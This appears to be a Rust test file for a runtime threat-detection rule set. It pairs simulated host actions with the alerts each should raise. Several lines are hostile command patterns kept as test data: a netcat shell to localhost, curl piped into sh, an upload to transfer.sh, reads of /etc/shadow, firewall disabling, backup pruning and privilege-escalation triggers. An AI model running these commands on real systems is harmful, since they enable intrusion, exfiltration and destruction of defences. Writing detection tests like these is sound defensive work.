//! Programs that are started, by whom and how.

use crate::action::Place::Host;
use crate::action::{Action, action};

pub(crate) fn actions() -> Vec<Action> {
    [unusual_ways(), below_servers(), tools(), accounts(), terminals()].concat()
}

fn unusual_ways() -> Vec<Action> {
    vec![
        action("from-memory", Host, "act memfd short").raises(
            "Fileless execution via memfd_create",
            &[("proc.exepath", "memfd:payload"), ("proc.cmdline", "memfd:payload short"), ("evt.type", "execve")],
        ),
        action("by-number", Host, "act by-descriptor $T/act").raises(
            "Execution Through Open Descriptor",
            &[("evt.arg.filename", "/proc/self/fd/*"), ("proc.exepath", "$T/act"), ("proc.name", "3")],
        ),
        action("shared-memory", Host, "cp $T/act /dev/shm/lannertest; /dev/shm/lannertest; rm /dev/shm/lannertest")
            .raises(
                "Execution from /dev/shm",
                &[("proc.exepath", "/dev/shm/lannertest"), ("proc.name", "lannertest"), ("proc.cwd", "$T/")],
            ),
        action("preloaded", Host, "LD_PRELOAD=/tmp/none.so /usr/bin/true").raises(
            "Library Preloaded from Open Folder",
            &[("proc.env[LD_PRELOAD]", "/tmp/none.so"), ("proc.exepath", "/usr/bin/true")],
        ),
        action("no-history", Host, "HISTFILE=/dev/null bash -c true")
            .raises("Shell Without History", &[("proc.env[HISTFILE]", "/dev/null"), ("proc.name", "bash")]),
        action("piped-download", Host, "sh -c 'true || curl http://127.0.0.1/x | sh'")
            .raises("Download Piped into Shell", &[("proc.name", "sh")]),
    ]
}

fn below_servers() -> Vec<Action> {
    vec![
        action("database-child", Host, "mysqld spawn id").raises(
            "DB program spawned process",
            &[("proc.pname", "mysqld"), ("proc.pcmdline", "mysqld spawn id"), ("proc.name", "id")],
        ),
        action("web-shell", Host, "nginx spawn sh -c :")
            .raises("Run shell untrusted", &[("proc.pname", "nginx"), ("proc.cmdline", "sh -c :")])
            .raises("Web Server Spawned Shell", &[("proc.pcmdline", "nginx spawn sh -c :")]),
        action("web-child", Host, "nginx spawn whoami").raises(
            "Web Server Spawned Suspicious Child Process",
            &[("proc.pname", "nginx"), ("proc.name", "whoami"), ("proc.exepath", "/usr/bin/whoami")],
        ),
        action("web-child-plain", Host, "nginx spawn date"),
        action("package-script", Host, "npm spawn sh -c 'wget x; :'").raises(
            "Network Tool Executed During NPM Package Install",
            &[("proc.name", "wget"), ("proc.pname", "sh"), ("proc.aname[2]", "npm")],
        ),
        action("server-read-late", Host, "nginx read-late 6 /etc/shadow")
            .raises("Read sensitive file trusted after startup", &[("fd.name", "/etc/shadow"), ("proc.name", "nginx")]),
        action("back-door", Host, "touch $T/liblzma.so.5.6.1; sshd read-late 0 $T/liblzma.so.5.6.1").raises(
            "Backdoored library loaded into SSHD (CVE-2024-3094)",
            &[("fd.name", "$T/liblzma.so.5.6.1"), ("proc.name", "sshd")],
        ),
        action("server-read-early", Host, "nginx read-late 0 /etc/shadow"),
    ]
}

fn tools() -> Vec<Action> {
    vec![
        action("scanner", Host, "nmap 127.0.0.1")
            .raises("Launch Suspicious Network Tool on Host", &[("proc.cmdline", "nmap 127.0.0.1")]),
        action("scanner-version", Host, "nmap --version"),
        action("remote-shell-tool", Host, "nc -e /bin/sh 127.0.0.1 1")
            .raises("Launch Suspicious Network Tool on Host", &[("proc.name", "nc")])
            .raises("Netcat/Socat Remote Code Execution on Host", &[("proc.cmdline", "nc -e /bin/sh 127.0.0.1 1")]),
        action("drop-site", Host, "curl -T x https://transfer.sh/")
            .raises("Transfer with Drop Site", &[("proc.cmdline", "curl -T x https://transfer.sh/")]),
        action(
            "long-name",
            Host,
            "dig 0123456789012345678901234567890123456789.0123456789012345678901234567890123456789.example.org",
        )
        .raises("DNS Tool with Long Name", &[("proc.name", "dig"), ("proc.cmdlenargs", "93")]),
        action("proxy", Host, "https_proxy=http://10.0.0.9:3128 wget x").raises(
            "Program run with disallowed http proxy env",
            &[("proc.env[https_proxy]", "http://10.0.0.9:3128"), ("proc.name", "wget")],
        ),
        action("miner", Host, "xmrig").raises("Known Cryptominer Process Executed", &[("proc.exepath", "$T/xmrig")]),
        action("miner-pool", Host, "/usr/bin/true stratum+tcp://pool")
            .raises("Detect crypto miners using the Stratum protocol", &[("proc.cmdline", "true stratum+tcp://pool")]),
        action("attack-tool", Host, "linpeas").raises("Known Attack Tool Executed", &[("proc.name", "linpeas")]),
        action("root-programs", Host, "find $T/stage -perm -4000")
            .raises("Search for Set-User-Id Programs", &[("proc.name", "find")]),
        action("backups", Host, "restic forget --prune")
            .raises("Backups Destroyed", &[("proc.cmdline", "restic forget --prune")]),
        action("backup-made", Host, "restic backup /srv"),
        action("file-rights", Host, "setcap cap_setuid+ep $T/act")
            .raises("Capabilities Given to File", &[("proc.name", "setcap")]),
        action("firewall-off", Host, "ufw disable")
            .raises("Security Service Switched Off", &[("proc.cmdline", "ufw disable")]),
        action("firewall-asked", Host, "ufw status"),
        action("agent-signalled", Host, "act start-and-signal $T/auditd 15").raises(
            "Agent Process Signalled",
            &[("evt.arg.sig", "SIGTERM"), ("evt.arg.pid", "auditd"), ("evt.type", "kill")],
        ),
        action("agent-asked", Host, "act start-and-signal $T/curl 15"),
    ]
}

fn accounts() -> Vec<Action> {
    vec![
        action("account-tool", Host, "useradd -r x").raises("User mgmt binaries", &[("proc.cmdline", "useradd -r x")]),
        action("service-program", Host, "act as 1 $T/act short").raises(
            "Service Account Runs Program from Open Folder",
            &[("user.name", "daemon"), ("user.uid", "1"), ("proc.cmdline", "act short")],
        ),
        action("no-sudo", Host, "act orphan act login 1000 act become-root")
            .raises("Non sudo setuid", &[("user.loginuid", "1000"), ("proc.cmdline", "act become-root")]),
        action("loader-variables", Host, "GLIBC_TUNABLES=glibc.malloc.check=0 act login 1000 su").raises(
            "Potential Local Privilege Escalation via Environment Variables Misuse",
            &[("proc.name", "su"), ("proc.env[GLIBC_TUNABLES]", "glibc.malloc.check=0")],
        ),
        action("pkexec", Host, "pkexec").raises(
            "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
            &[("proc.cmdline", "pkexec"), ("proc.exepath", "$T/pkexec")],
        ),
        action("pkexec-used", Host, "pkexec id"),
        action("sudoedit", Host, r"sudoedit -s '\'")
            .raises("Sudo Potential Privilege Escalation", &[("proc.cmdline", r"sudoedit -s \")]),
    ]
}

fn terminals() -> Vec<Action> {
    vec![
        action("look-around", Host, "act tty id").raises(
            "Basic Interactive Reconnaissance",
            &[("proc.name", "id"), ("proc.pname", "act"), ("proc.sname", "id")],
        ),
        action("look-around-script", Host, "id"),
        action("service-terminal", Host, "act tty act as 1 date").raises(
            "System user interactive",
            &[("user.name", "daemon"), ("proc.name", "date"), ("proc.sname", "date")],
        ),
        action("namespaces-of-init", Host, "$T/nsenter -t 1 -m sh")
            .raises("Host Namespaces Entered with nsenter", &[("proc.cmdline", "nsenter -t 1 -m sh")]),
        action("namespace-by-program", Host, "/usr/bin/nsenter --uts=/proc/self/ns/uts /usr/bin/true").raises(
            "Change thread namespace",
            &[("proc.exepath", "/usr/bin/nsenter"), ("evt.arg.nstype", "*CLONE_NEWUTS*")],
        ),
    ]
}
